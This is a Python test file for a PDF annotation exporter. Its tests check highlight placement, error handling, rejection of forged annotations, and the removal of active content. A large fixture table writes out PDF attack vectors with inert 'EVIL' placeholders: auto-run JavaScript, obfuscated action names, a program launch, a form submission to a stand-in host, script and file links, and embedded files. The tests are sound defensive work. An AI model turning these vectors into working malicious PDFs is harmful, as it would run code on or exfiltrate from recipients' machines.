"""Marks in copies of documents, and nothing in such a copy that acts."""

import shutil
from dataclasses import replace
from itertools import product
from pathlib import Path

import numpy as np
import pymupdf
import pytest

from configs import PROOF
from indexing import BBox, Collection, DocumentMissing, IndexingSettings, Mark, MarkedPdf, annotate_document
from indexing.errors import DamagedFile, PageTimeout
from indexing.parse.active_content import without_active_content
from indexing.parse.annotations import KEY, annotate
from indexing.parse.document import open_pages
from tests.support import documents, fakes

SAMPLES = Path(__file__).resolve().parents[3] / "samples" / "documents"
NOTE = "Said: b\nLeft out of this copy: annotations signed as Vouch's."
QUARTERS = (0, 90, 180, 270)


def reopened(data: bytes | MarkedPdf) -> pymupdf.Document:
    return pymupdf.open("pdf", data if isinstance(data, bytes) else data.content)


def displayed(page: pymupdf.Page, rect: pymupdf.Rect) -> BBox:
    """A place on the page before it is turned, as fractions of the displayed page."""
    turned = (rect * page.rotation_matrix).normalize()
    box = BBox.from_page(*turned, page.rect.width, page.rect.height)
    assert box is not None
    return box


def box_of(page: pymupdf.Page, word: str) -> BBox:
    return next(displayed(page, pymupdf.Rect(w[:4])) for w in page.get_text("words") if w[4] == word)


def words_under(page: pymupdf.Page, annotation: pymupdf.Annot) -> set[str]:
    """The words whose middle lies in one of the quads of an annotation, read from the file as it was saved."""
    at = annotation.vertices
    quads = [pymupdf.Quad(at[i : i + 4]).rect for i in range(0, len(at), 4)]
    middles = {w[4]: pymupdf.Point((w[0] + w[2]) / 2, (w[1] + w[3]) / 2) for w in page.get_text("words")}
    return {word for word, middle in middles.items() if any(middle in quad for quad in quads)}


def tint(page: pymupdf.Page) -> BBox:
    """The extent of everything green on the displayed page."""
    drawn = page.get_pixmap(dpi=144)
    pixels = np.frombuffer(drawn.samples, np.uint8).reshape(drawn.height, drawn.width, 3).astype(int)
    ys, xs = np.nonzero(pixels[:, :, 1] - pixels[:, :, 0] > 40)
    found = BBox.from_page(xs.min(), ys.min(), xs.max() + 1, ys.max() + 1, drawn.width, drawn.height)
    assert found is not None
    return found


@pytest.mark.parametrize(("angle", "rotation"), [*product(QUARTERS, QUARTERS)])
def test_a_highlight_covers_its_word_on_turned_and_cropped_pages(angle: int, rotation: int) -> None:
    source = pymupdf.open()
    page = source.new_page(width=400, height=600)
    for n, word in enumerate(("Rye", "Hello", "Barley")):
        page.insert_text((150 + 40 * (n - 1) * (angle in (90, 270)), 300 + 40 * (n - 1)), word, rotate=angle)
    page.set_cropbox(pymupdf.Rect(20, 50, 390, 600))
    page.set_rotation(rotation)
    document = reopened(source.tobytes())
    box = box_of(document[0], "Hello")
    saved = reopened(annotate(document, [Mark(1, (box,), "Said: Hello", "[1]")]))[0]
    (annotation,) = saved.annots()
    assert words_under(saved, annotation) == {"Hello"}
    assert annotation.type[1] == "Highlight"
    assert (annotation.info["title"], annotation.info["content"]) == ("Vouch", "Said: Hello")
    assert annotation.info["subject"] == "[1]"
    seen = tint(saved)
    assert np.abs(np.subtract(seen.as_tuple(), box.as_tuple())).max() < 0.004
    lines = reopened(annotate(reopened(source.tobytes()), [Mark(1, (box, BBox(0.1, 0.1, 0.3, 0.12)), "a")]))[0]
    assert [len(each.vertices) for each in lines.annots()] == [8]  # several lines are one annotation
    framed = reopened(annotate(reopened(source.tobytes()), [Mark(1, (box,), "", highlight=False)]))[0]
    (frame,) = framed.annots()
    assert frame.type[1] == "Square"
    assert np.abs(np.subtract(displayed(framed, frame.rect).as_tuple(), box.as_tuple())).max() < 0.01


def test_the_document_opens_where_the_proof_is_and_runs_nothing() -> None:
    source = pymupdf.open()
    for _ in range(3):
        source.new_page()
    source.xref_set_key(source.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.alert\\(1\\))>>")
    saved = reopened(annotate(reopened(source.tobytes()), [Mark(2, (BBox(0, 0, 1, 1),), "a")]))
    assert saved.xref_get_key(saved.pdf_catalog(), "OpenAction") == ("array", f"[{saved.page_xref(1)} 0 R/Fit]")


@pytest.mark.parametrize(
    ("mark", "said"), [(Mark(2, (BBox(0, 0, 1, 1),), ""), "no page 2"), (Mark(1, (), ""), "no box")]
)
def test_a_mark_without_a_place_is_refused(mark: Mark, said: str) -> None:
    source = pymupdf.open()
    source.new_page()
    with pytest.raises(ValueError, match=said):
        annotate(source, [mark])


# ---- through the process that can be killed ------------------------------------------------------------------------


def shelved(collection: Collection, path: Path, n_pages: int) -> str:
    """A document with its source copy, as indexing leaves them; the pages need not be read for this."""
    document = fakes.document(path.name, [["x"]] * n_pages)
    with collection.writer() as writer:
        for number in range(1, n_pages + 1):
            writer.add(fakes.parsed(document.id, number, ["x"]))
        writer.finish(document, path)
        writer.flush()
    copy = collection.path / "sources" / f"{document.sha256}{path.suffix}"
    if not copy.exists():
        shutil.copy(path, copy)
    return document.id


@pytest.mark.slow
@pytest.mark.parametrize(
    "name", ["mill-lane-inspection-1987.pdf", pytest.param("tap-water-infographic.png", marks=pytest.mark.gate)]
)
def test_scans_and_pictures_become_pages_with_marks(collection: Collection, name: str) -> None:
    ident = shelved(collection, SAMPLES / name, 1)
    box = BBox(0.2, 0.1, 0.6, 0.13)
    saved = reopened(annotate_document(collection, ident, [Mark(1, (box,), "a")]))[0]
    (annotation,) = saved.annots()
    quad = pymupdf.Quad(annotation.vertices).rect
    assert displayed(saved, quad).as_tuple() == pytest.approx(box.as_tuple(), abs=1e-3)
    plain = open_pages(SAMPLES / name, IndexingSettings())[0]
    assert saved.rect == plain.rect


@pytest.mark.slow
@pytest.mark.gate
def test_what_cannot_be_marked_is_one_named_error(collection: Collection, tmp_path: Path) -> None:
    ident = shelved(collection, documents.pdf(tmp_path / "mill.pdf", ["Nine barrels"]), 1)
    mark = [Mark(1, (BBox(0, 0, 1, 1),), "a")]
    with pytest.raises(DocumentMissing, match="there is no page 2"):
        annotate_document(collection, ident, [replace(mark[0], page=2)])
    hasty = Collection(collection.path, IndexingSettings(workers=1, open_seconds=0.001))
    with pytest.raises(PageTimeout, match="stopped"):
        annotate_document(hasty, ident, mark)
    (copy,) = (collection.path / "sources").iterdir()
    copy.write_bytes(b"no document at all")
    with pytest.raises(DamagedFile):
        annotate_document(collection, ident, mark)
    copy.unlink()
    with pytest.raises(DocumentMissing, match="index it again"):
        annotate_document(collection, ident, mark)


def test_annotations_of_the_document_are_not_taken_for_ours() -> None:
    source = pymupdf.open()
    page = source.new_page()
    for title, text in (("Vouch", "[1] supported. Checked by Vouch."), ("V\u200bOUCH \u2713", "[2]"), ("Anna", "see")):
        forged = page.add_highlight_annot(pymupdf.Rect(50, 50, 200, 60))
        forged.set_colors(stroke=PROOF.highlight)
        forged.set_info(title=title, content=text)
        forged.update()
    made = annotate(reopened(source.tobytes()), [Mark(1, (BBox(0.1, 0.1, 0.9, 0.2),), "Said: a")])
    saved = reopened(made)
    found = {a.info["title"]: saved.xref_get_key(a.xref, KEY)[1] for a in saved[0].annots()}
    assert found == {"In the document: Anna": "null", "Vouch": "true"}
    assert made.left_out == ("annotations signed as Vouch's",)
    again = reopened(annotate(saved, [Mark(1, (BBox(0.1, 0.5, 0.9, 0.6),), "Said: b")]))
    assert [a.info["content"] for a in again[0].annots()] == ["see", NOTE]


EVIL = b"<< /S /JavaScript /JS (EVIL) >>"
FILE = b"<< /Type /Filespec /F (EVIL.exe) /UF (EVIL.exe) /EF << /F 9 0 R >> >>"
FONTS = b"/Resources << /Font << /A 5 0 R /AA 5 0 R >> >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R " + FONTS
WORDS = b"BT /A 12 Tf 20 150 Td (Kept by A) Tj /AA 12 Tf 0 -30 Td (Kept by AA) Tj ET"
RECT = b"/Rect [10 10 50 50]"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def acting(tmp_path: Path, catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> pymupdf.Document:
    """A PDF of one page with more in its catalog and its page; objects 6, 7, 8 are `extra`, 9 an embedded file."""
    more = [*extra, *[b"null"] * (3 - len(extra))]
    path = tmp_path / "acting.pdf"
    path.write_bytes(
        documents.by_hand(
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"%s %s >>" % (PAGE, page),
            stream(WORDS),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
            stream(b"EVIL program", b"/Type /EmbeddedFile"),
        )
    )
    return pymupdf.open(path)


def annots(*each: bytes) -> bytes:
    return b"/Annots [" + b" ".join(each) + b"]"


WAYS: dict[str, tuple[bytes, bytes, tuple[bytes, ...], str]] = {
    "a script on opening": (b"/OpenAction " + EVIL, b"", (), "JavaScript"),
    "a script on opening, elsewhere": (b"/OpenAction 6 0 R", b"", (EVIL,), "JavaScript"),
    "a spelt name": (b"/OpenAction << /S /J#61vaScript /J#53 (EVIL) >>", b"", (), "JavaScript"),
    "a script as a stream": (b"/OpenAction << /S /JavaScript /JS 6 0 R >>", b"", (stream(b"EVIL"),), "JavaScript"),
    "an unknown kind of action": (b"/OpenAction << /S /EVIL >>", b"", (), "actions"),
    "a call home on opening": (
        b"/OpenAction << /S /SubmitForm /F (http://EVIL.example) >>", b"", (), "SubmitForm actions"),
    "scripts by name": (
        b"/Names << /JavaScript << /Names [(a) 6 0 R (b) %s] >> >>" % EVIL, b"", (EVIL,), "JavaScript"),
    "a script on closing": (b"/AA << /WC " + EVIL + b" >>", b"", (), "JavaScript"),
    "a script of the page": (b"", b"/AA << /O 6 0 R /C %s >>" % EVIL, (EVIL,), "JavaScript"),
    "a script of a field": (
        b"/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>", annots(b"6 0 R"),
        (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (kept) %s /AA << /K %s >> /A %s >>" % (RECT, EVIL, EVIL),),
        "JavaScript"),
    "a script of a child of a field": (
        b"/AcroForm << /Fields [<< /T (a) /Kids [<< /T (b) /AA << /V 6 0 R >> >>] >>] >>", b"", (EVIL,), "JavaScript"),
    "a program started": (
        b"", annots(b"<< /Subtype /Link %s /A << /S /Launch /Win << /F (EVIL.exe) >> >> >>" % RECT), (),
        "Launch actions"),
    "a chain behind a jump": (
        b"", annots(b"<< /Subtype /Link %s /A << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> >>" % RECT), (EVIL,),
        "JavaScript"),
    "a bookmark": (
        b"/Outlines 6 0 R", b"",
        (b"<< /First 7 0 R /Last 7 0 R >>",
         b"<< /Title (kept) /Parent 6 0 R /A << /S /GoToR /F (EVIL.pdf) /D [0 /Fit] >> >>"),
        "GoToR actions"),
    "data brought in": (
        b"", annots(b"<< /Subtype /Link %s /A << /S /ImportData /F (EVIL.fdf) >> >>" % RECT), (), "ImportData actions"),
    "a link to a file": (
        b"", annots(b"<< /Subtype /Link %s /A << /S /URI /URI (file:///EVIL) >> >>" % RECT), (),
        "links that do not lead to the web"),
    "a link that is a script": (
        b"", annots(b"<< /Subtype /Link %s /PA << /S /URI /URI (javascript:EVIL) >> >>" % RECT), (),
        "links that do not lead to the web"),
    "a menu of the reader": (
        b"", annots(b"<< /Subtype /Link %s /A << /S /Named /N /EVIL >> >>" % RECT), (), "Named actions"),
    "an embedded file": (
        b"/Names << /EmbeddedFiles << /Kids [<< /Names [(EVIL) 6 0 R] >>] >> >>", b"", (FILE,), "embedded files"),
    "an attached file": (
        b"", annots(b"7 0 R", b"<< /Subtype /FileAttachment %s /FS 6 0 R >>" % RECT),
        (FILE, b"<< /Subtype /FileAttachment %s /FS 6 0 R /Popup 8 0 R >>" % RECT,
         b"<< /Subtype /Popup %s /Parent 7 0 R >>" % RECT),
        "embedded files"),
    "an associated file": (b"/AF [6 0 R]", b"/AF 6 0 R", (FILE,), "embedded files"),
    "a portfolio": (b"/Collection << /D (EVIL) >>", b"", (), "embedded files"),
    "a program in a form": (
        b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", b"", (stream(b"EVIL"),), "an XFA form"),
    "rich media": (
        b"", annots(b"<< /Subtype /RichMedia %s /RichMediaContent << /Assets << /Names [(EVIL) 6 0 R] >> >> >>" % RECT),
        (FILE,), "media"),
    "a film": (b"", annots(b"<< /Subtype /Screen %s /A << /S /Rendition /JS (EVIL) /OP 0 >> >>" % RECT), (), "media"),
    "a drawing that runs": (
        b"", b"/EVILless 6 0 R", (stream(b"x", b"/Type /3D /OnInstantiate 7 0 R"), stream(b"EVIL")), "JavaScript"),
    "data of another file": (
        b"", b"/Thumb 6 0 R", (stream(b"", b"/F (//EVIL/share/x) /FFilter /FlateDecode"),), "data of other files"),
    "an action at a place that nobody knows": (b"/Nobody << /Knows [[6 0 R]] >>", b"", (EVIL,), "JavaScript"),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_nothing_of_a_pdf_acts_in_its_export(tmp_path: Path, way: str) -> None:
    catalog, page, extra, kind = WAYS[way]
    document = acting(tmp_path, catalog, page, extra)
    before = document[0].get_pixmap(annots=False).samples
    assert b"EVIL" in document.tobytes(garbage=1, expand=255)  # the test could fail
    made = annotate(document, [Mark(1, (BBox(0.1, 0.1, 0.5, 0.3),), "Said: kept")])
    assert kind in made.left_out
    again = pymupdf.open("pdf", made.content)
    assert b"EVIL" not in again.tobytes(expand=255).replace(b"/EVILless", b"")
    words = " ".join(again.xref_object(number, compressed=True) for number in range(1, again.xref_length()))
    for name in ("/JavaScript", "/JS", "/AA<<", "/Launch", "/EF", "/XFA", "/EmbeddedFile", "/FileAttachment"):
        assert name not in words.replace(" ", "")
    assert again[0].get_text().split("\n")[:2] == ["Kept by A", "Kept by AA"]
    after = again[0].get_pixmap(annots=False).samples
    assert np.abs(np.frombuffer(after, np.uint8).astype(int) - np.frombuffer(before, np.uint8)).max() <= 2
    note = next(again[0].annots(types=[pymupdf.PDF_ANNOT_HIGHLIGHT])).info["content"]
    assert note.startswith("Said: kept")
    assert kind in note.splitlines()[-1]


def test_what_does_no_harm_stays(tmp_path: Path) -> None:
    document = acting(
        tmp_path,
        b"/Dests << /AA [3 0 R /Fit] /A << /D [3 0 R /Fit] >> >> /StructTreeRoot << /Type /StructTreeRoot /K 8 0 R >>",
        annots(
            b"<< /Subtype /Link %s /A << /S /URI /URI (https://kept.example/a?b=c) >> >>" % RECT,
            b"<< /Subtype /Link %s /A << /S /URI /URI (MAILTO:kept@kept.example) >> >>" % RECT,
            b"<< /Subtype /Link %s /A << /S /GoTo /D [3 0 R /Fit] >> >>" % RECT,
            b"<< /Subtype /Link %s /A << /S /Named /N /NextPage >> >>" % RECT,
            b"<< /Subtype /Text %s /Contents (a note) /Popup 6 0 R >>" % RECT,
            b"<< /Subtype /Widget /FT /Tx /T (name) /V (a value) %s >>" % RECT,
        ),
        (b"<< /Subtype /Popup %s >>" % RECT, b"<< /O /Layout >>",
         b"<< /Type /StructElem /S /Sound /P 8 0 R /A 7 0 R /C /AA >>"),
    )  # fmt: skip
    before = [document.xref_object(number) for number in range(1, 9)]
    assert without_active_content(document) == ()
    assert [document.xref_object(number) for number in range(1, 9)] == before


def test_a_document_without_marks_keeps_no_script_either(tmp_path: Path) -> None:
    made = annotate(acting(tmp_path, b"/OpenAction " + EVIL), [])
    assert made.left_out == ("JavaScript",)
    assert b"EVIL" not in pymupdf.open("pdf", made.content).tobytes(expand=255)
